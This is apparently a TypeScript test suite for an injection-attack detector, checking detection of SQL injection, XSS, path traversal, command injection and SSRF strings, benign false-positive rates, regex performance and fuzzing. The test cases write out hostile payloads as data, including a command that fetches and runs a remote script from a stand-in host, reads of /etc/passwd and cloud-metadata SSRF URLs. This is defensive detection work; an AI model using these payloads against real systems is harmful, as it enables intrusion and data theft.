import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { detectAttack, detectionRules } from './detect.ts';
import { ATTACK_CORPORA, BENIGN_CORPORA, loadCorpus, measure } from './corpus.ts';

test('classic payloads are detected with the right type and rule', () => {
  const cases: Array<[string, string, string]> = [
    ["' OR '1'='1", 'sqli', 'sqli_tautology'],
    ['1 UNION ALL SELECT username, password FROM users--', 'sqli', 'sqli_union_select'],
    ['1 uni/**/on sel/**/ect 1,2', 'sqli', 'sqli_split_keyword'],
    ["1'; DROP TABLE users; --", 'sqli', 'sqli_stacked_ddl'],
    ['1 AND SLEEP(5)', 'sqli', 'sqli_time_delay'],
    ['<script>alert(1)</script>', 'xss', 'xss_script_tag'],
    ['<img src=x onerror=alert(1)>', 'xss', 'xss_event_handler'],
    ['" onmouseover="alert(1)', 'xss', 'xss_event_attribute'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss', 'xss_script_url'],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss', 'xss_script_tag'],
    ['%253Cscript%253E', 'xss', 'xss_script_tag'],
    ['../../../../etc/passwd', 'path_traversal', 'traversal_dotdot_chain'],
    ['..%252f..%252fetc%252fpasswd', 'path_traversal', 'traversal_dotdot_chain'],
    ['..%c0%af..%c0%afetc', 'path_traversal', 'traversal_encoded'],
    ['; cat /etc/passwd', 'cmd_injection', 'cmd_chained_command'],
    ['$(curl http://x.example/s.sh | sh)', 'cmd_injection', 'cmd_subshell'],
    ['() { :;}; /bin/bash -c id', 'cmd_injection', 'cmd_shellshock'],
    ['http://169.254.169.254/latest/meta-data/', 'ssrf', 'ssrf_metadata'],
    ['http://[::ffff:127.0.0.1]/admin', 'ssrf', 'ssrf_internal_url'],
    ['http://2130706433/', 'ssrf', 'ssrf_internal_url'],
    ['gopher://127.0.0.1:6379/_FLUSHALL', 'ssrf', 'ssrf_dangerous_scheme'],
  ];
  for (const [input, type, rule] of cases) {
    const d = detectAttack(input);
    assert.ok(d.detected, `${input} not detected`);
    assert.ok(
      d.attacks.some((a) => a.type === type && a.rule === rule),
      `${input}: ${JSON.stringify(d.attacks.map((a) => a.rule))}`,
    );
    for (const a of d.attacks) assert.ok(a.excerpt.length <= 48);
  }
});

test('ordinary text with apostrophes, SQL words and code is not flagged', () => {
  for (const benign of [
    "O'Brien",
    "Conor O'Brien's pub",
    "Choose 'A' or 'B', then press OK.",
    'Please select one option from the list and update your profile.',
    'Drop table tennis practice; we resume Monday.',
    "if (a === 'x' || b !== 'y') { run(); }",
    'Tom & Jerry',
    '2 < 3 and 5 > 4',
    'See ../README.md',
    'https://example.com/a?b=c&d=e',
    'I love javascript: it is fun',
    "It's 5 o'clock -- time for tea",
    'echo chamber',
    'id',
    'system',
  ]) {
    const d = detectAttack(benign);
    assert.equal(d.detected, false, `${benign}: ${JSON.stringify(d.attacks)}`);
  }
  assert.deepEqual(detectAttack(42 as unknown as string), { score: 0, detected: false, attacks: [], truncated: false });
});

test('corpus detection rates and benign false positives meet their thresholds', () => {
  const minimum: Record<string, number> = { 'sqli.txt': 0.7, 'xss.txt': 0.9, 'traversal.txt': 0.85, 'cmdi.txt': 0.85, 'ssrf.txt': 0.8 };
  for (const { file, type } of ATTACK_CORPORA) {
    const r = measure(loadCorpus(file), type);
    assert.ok(r.detected / r.total >= minimum[file]!, `${file}: ${r.detected}/${r.total}`);
    assert.ok(r.ofType / r.total >= minimum[file]! - 0.05, `${file}: ${r.ofType}/${r.total} of type ${type}`);
  }
  let flagged = 0;
  let total = 0;
  for (const file of BENIGN_CORPORA) {
    const r = measure(loadCorpus(file));
    flagged += r.detected;
    total += r.total;
  }
  assert.ok(total >= 900, 'benign corpus is large enough to measure 0.5%');
  assert.ok(flagged / total < 0.005, `false positives: ${flagged}/${total}`);
});

test('every rule stays linear on 100 KB adversarial inputs', () => {
  // Shapes that make backtracking engines explode on careless patterns: long runs of
  // the characters each rule repeats, unterminated constructs, alternating separators.
  const shapes = [
    'a'.repeat(100_000),
    "'".repeat(100_000),
    ' '.repeat(100_000),
    '<a '.repeat(33_000),
    '<'.repeat(100_000),
    'on'.repeat(50_000),
    "' or ".repeat(20_000),
    '../'.repeat(33_000),
    '%2e'.repeat(33_000),
    '%25'.repeat(33_000),
    '/*'.repeat(50_000),
    ';'.repeat(100_000),
    '$('.repeat(50_000),
    '`'.repeat(100_000),
    '&#'.repeat(50_000),
    '&#x6a'.repeat(20_000),
    'http://'.repeat(14_000),
    '1'.repeat(100_000),
    '\\x'.repeat(50_000),
    'union '.repeat(16_000),
    "'a'='".repeat(20_000),
    '<img src=x '.repeat(9_000),
    '0x'.repeat(50_000),
    '\n'.repeat(100_000),
    '\\'.repeat(100_000),
    '//'.repeat(50_000),
    '.@'.repeat(50_000),
  ];
  for (const shape of shapes) {
    const d = detectAttack(shape, { maxLength: 100_000 });
    assert.equal(typeof d.score, 'number');
  }
  // Every individual pattern against every shape (what a single slow rule would hide).
  for (const rule of detectionRules()) {
    for (const shape of shapes) rule.pattern.exec(shape.slice(0, 100_000));
  }
});

test('each rule gate is implied by its pattern (gates only skip rules that cannot match)', () => {
  const samples = [...ATTACK_CORPORA.flatMap((c) => loadCorpus(c.file)), ...BENIGN_CORPORA.flatMap((f) => loadCorpus(f))].map((l) => l.toLowerCase());
  samples.push('-moz-binding:url(x)', 'net user x /add', 'or true--', '1 union select 2', "waitfor delay '0:0:5'", '\u0000', 'a%00');
  let checked = 0;
  for (const rule of detectionRules()) {
    if (rule.gate === undefined) continue;
    for (const s of samples) {
      if (rule.pattern.test(s)) {
        checked++;
        assert.ok(rule.gate.test(s), `${rule.id}: gate ${rule.gate} misses ${JSON.stringify(s)}`);
      }
    }
  }
  assert.ok(checked > 500);
});

test('input longer than maxLength is cut and reported', () => {
  const d = detectAttack('x'.repeat(70_000) + '<script>');
  assert.equal(d.truncated, true);
  assert.equal(d.detected, false);
  assert.equal(detectAttack('<script>' + 'x'.repeat(70_000)).detected, true);
});

test('fuzz: detectAttack never throws on arbitrary strings', () => {
  fc.assert(
    fc.property(
      fc.oneof(fc.string({ maxLength: 500 }), fc.string({ unit: 'grapheme', maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 300 })),
      (s) => {
        const d = detectAttack(s);
        assert.ok(d.score >= 0 && d.score <= 100);
      },
    ),
    { numRuns: 3000 },
  );
});

test('developer text: ≤ 0.5 % false positives on test/corpus/benign-dev.txt, detection kept on test/corpus/attacks.txt', () => {
  const load = (name: string) =>
    readFileSync(new URL(`../../test/corpus/${name}`, import.meta.url), 'utf8')
      .split('\n')
      .filter((l) => l.length > 0);
  const benign = load('benign-dev.txt');
  const attacks = load('attacks.txt');
  assert.ok(benign.length >= 1_000, `benign corpus has ${benign.length} strings`);
  const flagged = benign.filter((l) => detectAttack(l).detected);
  // Before issue 12: 41 of 1,181 (3.47 %) — Markdown code spans, README badge HTML, `select * from`, localhost URLs in prose.
  assert.ok(flagged.length / benign.length <= 0.005, `false positives ${flagged.length}/${benign.length}:\n${flagged.join('\n')}`);
  const detected = attacks.filter((l) => detectAttack(l).detected).length;
  // Before issue 12: 115 of 123 (93.5 %); the misses are SSTI, NoSQL and LDAP payloads (no such rule types) and one blind SQLi.
  assert.ok(detected >= 115, `attacks detected ${detected}/${attacks.length}`);
  // The classes that were flagged stay detected where they are attacks.
  for (const attack of [
    '"><img src=x onerror=alert(1)>',
    'x"><svg/onload=alert(1)>',
    '`id`',
    'a; `whoami`',
    'http://localhost/admin',
    "1' AND SLEEP(5)--",
    'ORDER BY SLEEP(5)--',
    '1 AND (SELECT COUNT(*) FROM information_schema.tables)>0',
    'sel/**/ect/**/*/**/from/**/users',
  ]) {
    assert.ok(detectAttack(attack).detected, attack);
  }
});
